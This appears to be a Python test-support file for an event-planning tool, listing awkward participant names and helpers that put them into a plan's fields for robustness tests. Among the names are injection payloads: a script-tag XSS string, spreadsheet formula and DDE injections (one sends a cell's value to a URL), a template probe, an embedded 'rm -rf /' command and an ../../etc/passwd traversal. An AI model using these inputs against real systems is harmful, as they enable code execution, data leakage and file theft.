"""Names that have broken programs before, and drawn ones of the same kind."""

from __future__ import annotations

from typing import Any

from hypothesis import strategies as st

from facilitate.plan import Plan

NAMES = (
    "</script><script>alert(1)</script>",
    '=HYPERLINK("http://example.org/?x="&A1,"hier")',
    '=cmd|" /C calc"!A0',
    "+49 511 123456",
    "-49 511 123456",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    "'=1+1",
    "''=1+1",
    "'t Hooft",
    "O'Brien",
    'Anna "Nana" Müller',
    "#import sys",
    "{{7*7}} ${7*7} #{7*7}",
    "*[]_`$~<>&\\",
    "C:\\Windows; rm -rf / && echo",
    "%s %d {0} {name}",
    "王小明",
    "محمد علي",
    "שרה כהן",
    "\u202eevil\u202c",
    "👩‍👩‍👧 Familie 🎉",
    "Zoë Ångström-Łukasiewicz",
    "Wolfgang Amadeus Maria von und zu Hohenstein-Wittgenstein-Berleburg",
    "BEGIN:VEVENT",
    "a;b,c\\n|d",
    "NULL",
    "true",
    "1e5",
    "007",
    "CON",
    "../../etc/passwd",
)
"""What people may be called, all of it without control characters."""

CONTROLS = "Eva\x1b[31m\x00\x07 M\x9büller"
"""A name with control characters; no file format takes them over."""

DRAWN = st.text(
    st.characters(exclude_categories=["Cc", "Cs", "Cn"], exclude_characters="\u2028\u2029"),
    min_size=1,
    max_size=60,
)


def renamed(plan: Plan, *names: str) -> Plan:
    """Call the first people of `plan` so; ids stay."""
    called = [
        person.model_copy(update={"name": name})
        for person, name in zip(plan.participants, names, strict=False)
    ]
    rest = plan.participants[len(called) :]
    return plan.model_copy(update={"participants": (*called, *rest)})


def everywhere(plan: Plan, text: str) -> Plan:
    """Call the event, its first session, room, topics and places like `text`."""
    session = plan.sessions[0]
    rotations = tuple(
        rotation.model_copy(
            update={
                "groups": tuple(
                    group.model_copy(update={"topic": text}) for group in rotation.groups
                )
            }
        )
        for rotation in session.rotations
    )
    places = tuple(
        place.model_copy(update={"label": place.label.model_copy(update={"de": text, "en": text})})
        for place in session.places
    )
    told: dict[str, Any] = {"title": text, "room": text, "rotations": rotations, "places": places}
    changed = session.model_copy(update=told)
    update: dict[str, Any] = {"title": text, "place": text}
    return plan.model_copy(update={**update, "sessions": (changed, *plan.sessions[1:])})
